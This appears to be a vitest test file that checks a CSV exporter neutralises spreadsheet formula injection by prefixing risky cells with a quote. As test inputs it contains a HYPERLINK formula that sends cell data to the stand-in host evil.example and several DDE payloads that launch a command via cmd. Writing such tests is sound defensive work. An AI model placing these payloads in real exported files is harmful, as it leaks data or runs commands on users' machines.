// Check 49: no cell of a table that leaves the house is a formula to the program that opens it.
import { describe, expect, it } from 'vitest';
import { csvOf } from '../../src/domain/figures/csv.ts';

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '\u{0}', '＝', '＋', '－', '＠'];
const attacks = [
  '=HYPERLINK("https://evil.example?x="&A1,"点我")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
];

/** The cells of a line, as a reader of CSV sees them. */
const cellsOf = (csv: string): string[] => {
  const line = csv.slice('\u{feff}a\r\n'.length, -2);
  return [line.startsWith('"') ? line.slice(1, -1).replaceAll('""', '"') : line];
};

describe('a table', () => {
  it.each([...starts.map((start) => `${start}1+1`), ...attacks])('check 49: %j is text in it', (text) => {
    const [cell] = cellsOf(csvOf({ head: [], columns: ['a'], rows: [[text]] }));
    expect(cell).toBe(`'${text}`);
  });

  it('check 49: the lines above the table are guarded like its cells', () => {
    const csv = csvOf({ head: [['=1', '＝2']], columns: ['+3'], rows: [] });
    expect(csv).toBe("\u{feff}'=1,'＝2\r\n\r\n'+3\r\n");
  });
});
